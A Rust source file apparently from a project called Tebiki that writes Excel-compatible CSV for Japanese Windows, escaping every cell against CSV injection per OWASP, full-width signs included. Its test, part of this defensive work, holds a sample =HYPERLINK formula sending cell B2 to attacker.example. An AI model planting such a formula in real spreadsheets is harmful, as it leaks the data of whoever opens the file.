//! CSV that Excel on a Japanese Windows PC opens correctly: Shift_JIS (CP932,
//! Excel's default) or UTF-8 with a BOM (without it Excel guesses Shift_JIS
//! and garbles the text), CRLF line ends.
//!
//! Every cell goes through [`neutralise`]: text typed by anyone (a 改善策, a
//! name in the roster, a file name in the 操作記録) must never become a live
//! formula when the 管理者 opens the file in Excel (CSV injection).

/// A CSV writer whose every cell is neutralised. The only way Tebiki writes CSV.
pub struct Writer {
    inner: csv::Writer<Vec<u8>>,
}

pub fn writer() -> Writer {
    Writer { inner: csv::WriterBuilder::new().terminator(csv::Terminator::CRLF).from_writer(Vec::new()) }
}

impl Writer {
    /// Writes one row, each cell neutralised.
    pub fn write_record<I, T>(&mut self, record: I) -> csv::Result<()>
    where
        I: IntoIterator<Item = T>,
        T: AsRef<str>,
    {
        let cells: Vec<String> = record.into_iter().map(|c| neutralise(c.as_ref()).into_owned()).collect();
        self.inner.write_record(&cells)
    }
}

/// OWASP's rule against CSV injection: a cell that begins with `=`, `+`,
/// `-`, `@`, a tab or a carriage return gets a leading single quote, so that
/// Excel (and LibreOffice) show it as text instead of evaluating it. Full-width
/// `＝＋－＠` are included: Excel on a Japanese PC reads them as formula signs too.
pub fn neutralise(cell: &str) -> std::borrow::Cow<'_, str> {
    match cell.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r' | '＝' | '＋' | '－' | '＠') => format!("'{cell}").into(),
        _ => cell.into(),
    }
}

/// The bytes of a finished writer in the encoding chosen.
pub fn finish(w: Writer, shift_jis: bool) -> Vec<u8> {
    let text = String::from_utf8(w.inner.into_inner().unwrap_or_default()).unwrap_or_default();
    if shift_jis {
        encoding_rs::SHIFT_JIS.encode(&text).0.into_owned()
    } else {
        let mut out = vec![0xEF, 0xBB, 0xBF];
        out.extend_from_slice(text.as_bytes());
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cells_that_excel_would_evaluate_are_written_as_text() {
        for bad in ["=HYPERLINK(\"http://attacker.example/?q=\"&B2,\"詳細\")", "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "＝1+1", "＠A1"] {
            assert_eq!(neutralise(bad), format!("'{bad}"), "{bad:?}");
        }
        for fine in ["改善策を検討する", "1001", "2025-06-01", "a=b", "", "'quoted"] {
            assert_eq!(neutralise(fine), fine);
        }
        let mut w = writer();
        w.write_record(["=1+1", "ok"]).unwrap();
        let bytes = finish(w, false);
        assert_eq!(String::from_utf8_lossy(&bytes[3..]), "'=1+1,ok\r\n");
    }
}
